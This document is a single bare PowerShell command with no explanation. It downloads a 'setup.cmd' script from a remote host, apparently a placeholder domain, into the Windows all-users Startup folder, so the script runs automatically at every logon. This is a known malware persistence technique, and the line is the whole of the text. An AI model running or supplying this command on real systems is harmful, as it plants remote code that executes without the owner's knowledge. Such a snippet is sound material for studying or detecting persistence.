(New-Object Net.WebClient).DownloadFile('https://files.contoso.com/setup.cmd', 'C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\setup.cmd')
